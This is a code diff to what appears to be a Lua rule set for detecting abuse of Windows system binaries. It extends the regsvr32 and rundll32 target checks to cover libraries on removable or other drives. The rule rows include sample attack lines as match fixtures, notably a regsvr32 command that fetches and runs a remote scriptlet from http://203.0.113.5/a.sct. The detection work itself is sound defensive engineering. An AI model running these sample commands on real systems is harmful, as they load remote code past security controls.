@@ -28,12 +28,27 @@ local function user_file_or_url(each, case)
     return url(each) or user_file(each, case)
 end
 
+-- At most one folder below the root of a stick or a mounted image; programs on a second disk lie deeper.
+local function near_other_root(where, case)
+    return windows.on_other_drive(where, case) and where:find [[^%a:\[^\]+\[^\]+\]] == nil
+end
+
+local function regsvr32_target(each, case)
+    local target = user_file_or_url(each, case)
+    if target then return target end
+    for i = 2, #each.words do
+        if near_other_root(each.words[i], case) then return each.words[i] end
+    end
+    return nil
+end
+
 -- rundll32 also runs a library that has another extension, or none.
 local function rundll32_target(each, case)
     local target = script_text(each) or url(each)
     if target then return target end
     local library = (each.words[2] or ""):gsub(",.*$", "")
-    return windows.in_user_place(library, case) and library or nil
+    local foreign = windows.in_user_place(library, case) or near_other_root(library, case)
+    return foreign and library or nil
 end
 
 local function certutil_target(each)
@@ -65,10 +80,10 @@ local ROWS = {
       what = "has rundll32 run",
       match = [[rundll32.exe C:\Users\x\AppData\Roaming\a\b.dll, Main]],
       no_match = "rundll32.exe shell32.dll,Control_RunDLL desk.cpl" },
-    { id = "defense-evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = user_file_or_url,
+    { id = "defense-evasion.regsvr32", programs = { "regsvr32" }, attack = "T1218.010", target = regsvr32_target,
       what = "has regsvr32 run",
       match = "regsvr32 /s /n /u /i:http://203.0.113.5/a.sct scrobj.dll",
-      no_match = [[regsvr32 /s "C:\Program Files\Tool\tool.dll"]] },
+      no_match = [[regsvr32 /s "D:\Tools\Editor\tool.dll"]] },
     { id = "defense-evasion.mshta", programs = { "mshta" }, attack = "T1218.005",
       target = function(each, case) return script_text(each) or user_file_or_url(each, case) end,
       what = "has mshta run",
